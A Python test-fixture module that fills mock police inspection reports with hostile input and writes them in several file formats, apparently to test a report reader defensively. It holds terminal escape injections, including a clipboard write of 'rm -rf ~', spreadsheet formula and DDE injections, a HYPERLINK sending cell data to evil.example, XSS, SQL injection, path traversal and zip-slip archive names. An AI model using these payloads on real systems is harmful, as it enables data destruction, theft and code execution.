"""Reports whose words were written to do harm: to the terminal, the table, the spreadsheet or the disk of a reader.

``ATTACKS`` are the words, each harmless to read aloud; ``report_text`` puts them wherever a report has words, and
``as_file`` writes that in each format that is read.
"""

from __future__ import annotations

import base64
import re
from collections.abc import Callable, Mapping
from html import escape

from tests.read.pages import mhtml
from tests.read.pdf_pages import write
from tests.read.word_files import docx, odt, par

_ESC, _BELL, _CSI, _OSC = "\x1b", "\x07", "\x9b", "\x9d"

REGISTERS = "the register's own markup"

# What is written for a terminal, for Rich and for who reads a screen. Each stands on one line.
ATTACKS: dict[str, str] = {
    "markup": "[bold red]not red[/bold red]",
    "markup that closes nothing": "[/] and [/bold] and [/link]",
    "markup of a link": "[link=https://evil.example]a link[/link]",
    "markup of an action": "[@click=app.bell]click[/]",
    REGISTERS: "[/status][status]complete[/status] [/on]",
    "a bracket left open": "[[[bold",
    "an escaped bracket": "\\[bold]x\\[/bold] \\",
    "an emoji's code": ":smile: :warning:",
    "colour": f"{_ESC}[31;1mred{_ESC}[0m",
    "a cleared screen": f"{_ESC}[2J{_ESC}[H{_ESC}[3Jcleared",
    "a line above": f"{_ESC}[1A{_ESC}[2Kgone",
    "another screen": f"{_ESC}[?1049h{_ESC}[?25lhidden",
    "a title": f"{_ESC}]0;owned{_ESC}\\",
    "a link": f"{_ESC}]8;;https://evil.example{_ESC}\\here{_ESC}]8;;{_ESC}\\",
    "the clipboard": f"{_ESC}]52;c;cm0gLXJmIH4={_ESC}\\",
    "an answer wanted": f"{_ESC}[6n{_ESC}[c{_ESC}P$qm{_ESC}\\",
    "a reset": f"{_ESC}c{_ESC}(0lqk{_ESC}(B",
    "controls of one byte": f"{_CSI}31m{_OSC}0;owned\x9c\x85\x90\x98",
    "a bell": f"ding{_BELL}",
    "backspaces": "late\x08\x08\x08\x08done",
    "deletes": "x\x7f\x7f",
    "right to left": "\u202eteg\u202c and \u202dltr\u202c and \u202b\u202a",
    "isolates": "\u2066a\u2067b\u2068c\u2069\u2069",
    "marks of direction": "\u200ea\u200fb\u061cc",
    "no width": "o\u200bp\u200ce\u200dn\u2060\ufeff",
    "soft hyphens": "clo\u00adsed",
    "unseen operators": "f\u2061\u2062\u2063\u2064x\u206a\u206f\u180e\u034f",
    "unseen letters": "\u115f\u1160\u3164\uffa0\u17b4",
    "tags": "flag\U000e0001\U000e0068\U000e0069\U000e007f",
    "variations": "a\ufe0f\ufe00\U000e0100\U000e01ef",
    "marks piled up": "Z" + "\u0301\u0323\u0489\u0347" * 5 + "algo",
    "separators": "one\u2028two\u2029three",
    "annotations": "\ufff9a\ufffab\ufffbc",
    "a command": "=cmd|' /C calc'!A0",
    "a plus": "+cmd|' /C calc'!A0",
    "a minus": "-2+3+cmd|' /C calc'!A0",
    "an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a link of a sheet": '=HYPERLINK("https://evil.example?x="&A1,"more")',
    "exchange of data": '=DDE("cmd";"/C calc";"x")',
    "a wide command": "\uff1dcmd|' /C calc'!A0",
    "wide signs": "\uff0b1 \uff0d1 \uff20SUM(1)",
    "a cell of its own": '";=1+1;" ,=1+1,"',
    "a script": "<script>alert(1)</script>",
    "a picture": "<img src=x onerror=alert(1)>",
    "an end of attributes": "\"'><svg/onload=alert(1)>",
    "an entity": "&lt;b&gt; &#27;[31m &amp;",
    "a path": "../../../../tmp/owned",
    "a path from the root": "/tmp/owned",
    "a path with a drive": "C:\\Windows\\..\\owned",
    "formats": "%s %n {0} {x.__class__} ${HOME} $(id) `id`",
    "SQL": "'; DROP TABLE areas;--",
}
# What cannot stand within one line of a text, but in a name, in a decision or in a settings file.
BREAKS: dict[str, str] = {
    "a return": "overdue\rclosed ",
    "a line break": "one\nerror: two",
    "tabs": "\t=1+1\ta\tb",
    "a return before": "\r=1+1",
    "a feed": "a\x0bb\x0cc",
    "all controls": "".join(map(chr, range(1, 32))),
}
ALL = " ".join(ATTACKS.values())

_TITLE = "PEEL: Police legitimacy"
_MATTERS = ("vetting of its staff", "ethical dilemmas", "complaints by the public", "its counter-corruption unit")

# A text in which every two hundredth character is a control is no text.
_PROSE = ("The constabulary told us how it listens to people who live in the county, and what it does then. " * 5,) * 8

# So many attacks stand in one finding, that a report need not be longer than reports are.
_IN_ONE = 4


def together(attacks: Mapping[str, str]) -> list[str]:
    """Give attacks as they stand side by side in a finding."""
    words = list(attacks.values())
    return [" and ".join(words[at : at + _IN_ONE]) for at in range(0, len(words), _IN_ONE)]


def report_text(year: int = 2018, attacks: Mapping[str, str] | None = None) -> str:
    """Give a report on Cheshire with an attack at each place where a report has words; of 2018 it follows up 2016."""
    words = {name: one for name, one in (attacks or ATTACKS).items() if name != REGISTERS}
    whole = " ".join(words.values())
    parts = [
        f"{_TITLE} {year} {whole[:300]}",
        "An inspection of Cheshire Constabulary",
        f"Published on: 27 September {year + 1}",
        f"## Overall judgment {words.get('colour', '')}",
        f"Cheshire Constabulary is good at legitimacy. It is good at {whole}.",
        "Good",
        f"## How fairly does {whole} treat people?",
        "Requires improvement",
        *_PROSE,
        f"We found that 35 officers {whole} had second jobs.",
        "## Areas for improvement",
        *(
            f"- The force should improve how {_MATTERS[n % 4]} {n} {one} is recorded {one}, by 31 March {year + 2}."
            for n, one in enumerate(together(words))
        ),
        "## Cause of concern",
        f"The force's {_MATTERS[0]} {whole} is a cause of concern.",
        "## Recommendations",
        f"To address this cause of concern, within six months, the force should improve its vetting of {whole}.",
        f"- {whole}",
        f"This is not good enough: the force must do more {whole}.",
        *(_told_later(words) if year > 2016 else ()),
    ]
    return "\n\n".join(parts) + "\n"


def register_text() -> str:
    """Give a dump of the register of recommendations with an attack in each entry, its log and its comments."""
    entries = (
        f"PEEL legitimacy 2016 ({6100 + n})\n\nThe force should have a plan {one} to vet everyone {one}.\n\n"
        f"[on]8th December 2016 [status]complete[/status][/on][on]1st May 2017 [comment]\n\n{one}\n\n[/comment][/on]"
        for n, one in enumerate(together(ATTACKS))
    )
    return "\n\n".join(entries) + "\n"


def _told_later(words: Mapping[str, str]) -> list[str]:
    return [
        "## What has changed",
        *(
            f"In our 2016 report we said that {_MATTERS[n % 4]} {one} was an area for improvement. The force has not "
            f"achieved our 2016 recommendation that, within two years, it should improve {_MATTERS[n % 4]} {n} {one}."
            for n, one in enumerate(together(words))
        ),
    ]


_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def _lines(text: str) -> list[str]:
    return [line for line in text.split("\n") if line]


def _txt(text: str) -> bytes:
    return text.encode()


def _html(text: str) -> bytes:
    title = escape(text.partition("\n")[0])
    return f"<!doctype html><html><head><title>{title}</title></head><body>{_page(text)}</body></html>".encode()


def _page(text: str) -> str:
    return "".join(_element(line) for line in _lines(text))


def _element(line: str) -> str:
    for mark, name in (("## ", "h2"), ("- ", "li")):
        if line.startswith(mark):
            return f"<{name}>{_referred(line.removeprefix(mark))}</{name}>"
    return f"<p>{_referred(line)}</p>"


def _referred(line: str) -> str:
    """Write every other line's characters beyond ASCII, and its controls, as references."""
    safe = escape(line)
    if len(line) % 2:
        return safe
    return "".join(one if " " <= one <= "~" else f"&#{ord(one)};" for one in safe)


def _mhtml(text: str) -> bytes:
    head = "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\nContent-Location: ../../x"
    return mhtml((head, base64.encodebytes(_html(text))))


def _docx(text: str) -> bytes:
    return docx("".join(par(escape(line)) for line in _lines(_NOT_XML.sub("", text))), more=_STRAY)


def _odt(text: str) -> bytes:
    lines = _lines(_NOT_XML.sub("", text))
    return odt("".join(f"<text:p>{escape(line)}</text:p>" for line in lines), more=_STRAY)


# Members that would be written beside or above the file by whoever unpacks by name.
_STRAY: dict[str, str | bytes] = dict.fromkeys(
    ("../../owned.txt", "/tmp/owned.txt", "..\\owned.txt", "C:\\owned.txt", "a\x1b[31m\nb"), b"owned"
)


def _rtf(text: str) -> bytes:
    body = "".join(f"{''.join(map(_rtf_character, line))}\\par\n" for line in _lines(text))
    return (r"{\rtf1\ansi\ansicpg1252\uc1 " + body + "}").encode("ascii")


def _rtf_character(one: str) -> str:
    if one in "\\{}":
        return f"\\{one}"
    if " " <= one <= "~":
        return one
    units = one.encode("utf-16-le")
    numbers = (int.from_bytes(units[at : at + 2], "little", signed=True) for at in range(0, len(units), 2))
    return "".join(f"\\u{number}?" for number in numbers)


def _pdf(text: str) -> bytes:
    """Write a PDF in which the glyphs of one font stand for whatever characters the text has."""
    lines = [piece for line in _lines(text) for piece in (*_wrapped(line), "")]
    characters = sorted(set("".join(lines)))
    codes = {one: number for number, one in enumerate(characters, start=1)}
    mapped = "".join(f"<{codes[one]:04x}> <{one.encode('utf-16-be').hex()}>\n" for one in characters)
    unicode_map = (
        "/CIDInit /ProcSet findresource begin begincmap /CMapType 2 def 1 begincodespacerange <0000> <ffff> "
        f"endcodespacerange {len(characters)} beginbfchar\n{mapped}endbfchar endcmap end"
    )
    pages = [lines[at : at + 60] for at in range(0, len(lines), 60)]
    first = 7
    things = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count %d/Kids[%s]>>"
        % (len(pages), b" ".join(b"%d 0 R" % (first + 2 * number) for number in range(len(pages)))),
        b"<</Type/Font/Subtype/Type0/BaseFont/F/Encoding/Identity-H/DescendantFonts[4 0 R]/ToUnicode 5 0 R>>",
        b"<</Type/Font/Subtype/CIDFontType2/BaseFont/F/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)"
        b"/Supplement 0>>/DW 500/FontDescriptor 6 0 R>>",
        _stream(unicode_map),
        b"<</Type/FontDescriptor/FontName/F/Flags 4/FontBBox[0 0 1000 1000]/ItalicAngle 0/Ascent 800/Descent -200"
        b"/CapHeight 700/StemV 80>>",
    ]
    for number, page in enumerate(pages):
        drawn = "".join(f"<{''.join(f'{codes[one]:04x}' for one in line)}> Tj T*\n" for line in page)
        things += [
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 842 842]/Resources<</Font<</F 3 0 R>>>>/Contents %d 0 R>>"
            % (first + 2 * number + 1),
            _stream(f"BT /F 10 Tf 12 TL 40 800 Td\n{drawn}ET"),
        ]
    return write(*things)


def _wrapped(line: str) -> list[str]:
    return [line[at : at + 140] for at in range(0, len(line), 140)]


def _stream(content: str) -> bytes:
    return b"<</Length %d>>\nstream\n%s\nendstream " % (len(content), content.encode("latin-1"))


FORMATS: dict[str, Callable[[str], bytes]] = {
    "txt": _txt,
    "md": _txt,
    "html": _html,
    "mhtml": _mhtml,
    "docx": _docx,
    "odt": _odt,
    "rtf": _rtf,
    "pdf": _pdf,
}


def as_file(text: str, suffix: str) -> bytes:
    """Give a report's text as the content of a file of a format, by its suffix."""
    return FORMATS[suffix](text)


# Names that a file may have on Linux.
FILE_NAMES: dict[str, bytes] = {
    "a line break": b"one\nerror: two.txt",
    "a return": b"one\rtwo.txt",
    "escapes": b"\x1b[31mred\x1b]0;owned\x07.txt",
    "right to left": "invoice\u202etxt.exe.txt".encode(),
    "a dash": b"--json.txt",
    "blanks": b"  two  blanks .txt",
    "quotes": b"'a' \"b\" `id` $(id).txt",
    "markup": b"[bold][status].txt",
    "markup that closes": b"a [ b [] ]c [0m].txt",
    "a formula": b"=cmd|' .txt",
    "no text": b"caf\xe9 \xff\xfe.txt",
    "unseen": "a\u200b\U000e0041.txt".encode(),
    "a long one": b"long" * 62 + b".txt",
    "backslashes": b"a\\..\\..\\owned.txt",
    "a tag": b"<script>alert(1)<img>.txt",
}
